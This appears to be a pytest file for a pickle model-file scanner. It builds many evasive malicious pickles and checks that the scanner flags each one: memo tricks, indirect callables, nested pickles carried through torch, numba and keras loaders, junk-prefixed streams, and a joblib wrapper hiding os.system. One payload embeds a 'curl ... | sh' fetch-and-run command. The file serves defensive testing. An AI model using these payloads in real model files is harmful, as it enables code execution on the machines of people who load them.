"""How loaders read a pickle, where a scanner that reads it a little differently sees something else."""

from __future__ import annotations

import pytest

from tests.artifacts.generators import (
    NO,
    YES,
    blob,
    call,
    keras_zip,
    marshalled,
    name,
    npy,
    pickle,
    shell,
    stack_name,
    text,
    value,
)
from tests.artifacts.scanning import failing, findings

SYSTEM = name("os", "system")
PAYLOAD = shell()
NAMED_LATER = text("system") + b"\x93" + text("id") + b"\x85R."


def wrapper(dtype: bytes | None = None, module: str = "joblib.numpy_pickle") -> bytes:
    """The wrapper behind which joblib, and only joblib, reads raw numbers."""
    state = {
        "subclass": name("numpy", "ndarray"),
        "shape": (1000,),
        "order": "C",
        "dtype": dtype or call(name("numpy", "dtype"), "f8", NO, YES),
    }
    return name(module, "NumpyArrayWrapper") + b")\x81" + value(state) + b"b"


def objects_in_fields() -> bytes:
    """The type of records with a field of objects, whose array is a pickle of its own."""
    field = (call(name("numpy", "dtype"), "O8", NO, YES), 0)
    return call(name("numpy", "dtype"), "V16", NO, YES) + value((3, "|", None, ("a",), {"a": field}, 16, 1, 27)) + b"b"


LAMBDA = {
    "class_name": "Lambda",
    "module": "keras.layers",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": marshalled()}}},
}
LATER = b"0h\x05h\x06\x93" + text("id") + b"\x85R."
NAMES_FIRST = b"\x80\x04" + text("os") + b"q\x050" + text("system") + b"q\x060"

MEMO = {
    "MEMOIZE counts what is set, not the highest number": b"\x80\x04"
    + text("math")
    + b"q\x010"
    + text("os")
    + b"\x940"
    + text("sqrt")
    + b"q\x050h\x01"
    + NAMED_LATER,
    "MEMOIZE beside scattered entries": b"\x80\x04"
    + text("math")
    + b"r\xff\xff\0\x000"
    + text("math")
    + b"q\x010"
    + text("os")
    + b"\x940"
    + text("os")
    + b"\x940h\x02"
    + NAMED_LATER,
    "an entry with many zeros": b"\x80\x02"
    + text("math")
    + b"q\x050"
    + text("os")
    + b"p00000000000000000000005\n0h\x05"
    + NAMED_LATER,
    "an entry with a sign": b"\x80\x02" + text("os") + b"p5\n0g+5\n" + NAMED_LATER,
    "an entry with an underscore": b"\x80\x02" + text("os") + b"p1_0\n0g10\n" + NAMED_LATER,
    "a very high entry": b"\x80\x02" + text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + NAMED_LATER,
    "a name beyond what is kept inline": pickle(call(stack_name("numpy", "x" * 90 + ".__globals__.os.system"), "id")),
    "forgotten, then called": pickle(
        call(name("builtins", "getattr"), name("posixpath", "os"), "system")
        + b"\x940"
        + b")\x940" * 40_000
        + b"h\x00"
        + text("id")
        + b"\x85R"
    ),
}

HANDED_OVER = {
    "imap of Python 2": pickle(call(name("itertools", "imap"), name("nturl2path", "url2pathname"), value(("id",))), 2),
    "starmap": pickle(
        call(
            name("collections", "deque"),
            call(name("itertools", "starmap"), name("tabnanny", "check"), value((("x",),))),
        )
    ),
    "starmap of a method": pickle(
        call(
            name("itertools", "starmap"),
            call(name("builtins", "getattr"), call(name("pathlib", "PosixPath"), "/tmp/x"), "write_text"),
            value((("x",),)),
        )
    ),
    "a callback of a weak reference": pickle(
        call(name("weakref", "ref"), call(name("collections", "OrderedDict")), name("tabnanny", "check"))
    ),
    "a rebuilder that calls": pickle(
        call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("evil_pkg.x", "run"),
            name("torch", "Tensor"),
            ("id",),
            None,
        )
    ),
    "a partial whose state names another function": pickle(
        call(name("functools", "partial"), name("builtins", "len"))
        + value((name("tabnanny", "check"), ("x",), {}, None))
        + b"b)R"
    ),
    "reduce out of another module": pickle(call(name("statistics", "reduce"), name("builtins", "print"), ("x",))),
    "a class made by its metaclass": pickle(call(name("abc", "ABCMeta"), "X", (), {})),
    "a reference evaluated": pickle(
        call(stack_name("typing", "ForwardRef._evaluate"), call(name("typing", "ForwardRef"), "1"), {}, {})
    ),
    "eval of dill": pickle(call(name("dill._dill", "_eval_repr"), "__import__('os').system('id')")),
    "items of a module's table": pickle(name("linecache", "cache") + text("a") + text("b") + b"s"),
    "a class of a known package with a command": pickle(
        call(name("ray.util", "ActorPool"), "curl http://203.0.113.1/x | sh")
    ),
    "a process of a known package": pickle(call(name("joblib.externals.loky.backend.popen_loky_posix", "Popen"), "x")),
    "a process of an unknown package": pickle(call(name("somelib.run", "RemotePopen"), "x")),
}

CARRIED = {
    "text of protocol 2": call(name("_codecs", "encode"), PAYLOAD.decode("latin-1"), "latin1"),
    "bytes of bytes": call(name("builtins", "bytes"), blob(PAYLOAD)),
    "a bytearray of text": call(name("builtins", "bytearray"), PAYLOAD.decode("latin-1"), "latin-1"),
    "two pieces": call(name("operator", "add"), blob(PAYLOAD[:9]), blob(PAYLOAD[9:])),
    "a string of Python 2": b"U" + bytes([len(PAYLOAD)]) + PAYLOAD,
    "a stream": call(name("_io", "BytesIO"), blob(PAYLOAD)),
    "what cannot be told": call(name("operator", "mul"), blob(PAYLOAD), 1),
    "a long text": call(name("_codecs", "encode"), (shell(command="id;" * 900)).decode("latin-1"), "latin1"),
}

COVERED = {
    "an array that only joblib would pass over": b"\x80\x04"
    + wrapper()
    + b"0"
    + call(SYSTEM, "id")
    + b"."
    + b"\0" * 8000,
    "the same, with names from before": NAMES_FIRST + wrapper() + LATER + b"\0" * 8000,
    "a wrapper of another package": b"\x80\x04"
    + wrapper(module="x.y")
    + b"0"
    + call(SYSTEM, "id")
    + b"."
    + b"\0" * 8000,
    "records with objects": b"\x80\x04" + wrapper(objects_in_fields()) + PAYLOAD + b"\0" * 16000,
    "INST behind junk": b"\x80\x04N.\xff\xfe\xfd(S'id'\nios\nsystem\n.",
    "no PROTO behind junk": b"\x80\x04N.\xff\xfe\xfd" + call(stack_name("os", "system"), "id") + b".",
}


@pytest.mark.parametrize("kind", [*MEMO, *HANDED_OVER, *COVERED])
def test_found(kind: str) -> None:
    data = {**MEMO, **HANDED_OVER, **COVERED}[kind]
    assert failing("model.pkl", data), findings("model.pkl", data)


@pytest.mark.parametrize("kind", CARRIED)
@pytest.mark.parametrize("loader", ["torch.storage._load_from_bytes", "numba.core.serialize._unpickle__CustomPickled"])
def test_carried_pickles(kind: str, loader: str) -> None:
    module, _, function = loader.rpartition(".")
    data = pickle(call(name(module, function), CARRIED[kind]), 2)
    assert failing("model.pkl", data), findings("model.pkl", data)


def test_carried_model_of_keras() -> None:
    inner = call(name("_io", "BytesIO"), blob(keras_zip(LAMBDA)))
    data = pickle(call(stack_name("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"), inner))
    assert failing("model.pkl", data), findings("model.pkl", data)


def test_carried_ordinary_tensors_are_silent() -> None:
    inner = pickle(b"]", 2)
    for item in (call(name("_codecs", "encode"), inner.decode("latin-1"), "latin1"), blob(inner)):
        data = pickle(call(name("torch.storage", "_load_from_bytes"), item), 2)
        assert not [f for f in findings("model.pkl", data) if f.rule_id != "pickle-model"]


FIRST = ["I1\n0", "N0", "S'hello'\n0", "Vhello\n0", "L1L\n0", "]0", "(lp0\n0", "(dp0\n0", "F1.5\n0", "(0"]


@pytest.mark.parametrize("first", FIRST)
@pytest.mark.parametrize("path", ["model.pkl", "weights", "notes.txt", "weights.dat", "data.json", "README.md"])
def test_protocol_0_begins_with_anything(first: str, path: str) -> None:
    data = first.encode() + b"cos\nsystem\n(S'id'\ntR."
    assert failing(path, data), findings(path, data)


def test_a_text_with_words_on_lines_is_no_pickle() -> None:
    for data in (b"class\nfoo\n(bar)\n", b"names\nico\nlist\n\ncity\ntown\n(small)\n", npy()):
        assert not findings("notes.txt", data) or data == npy()
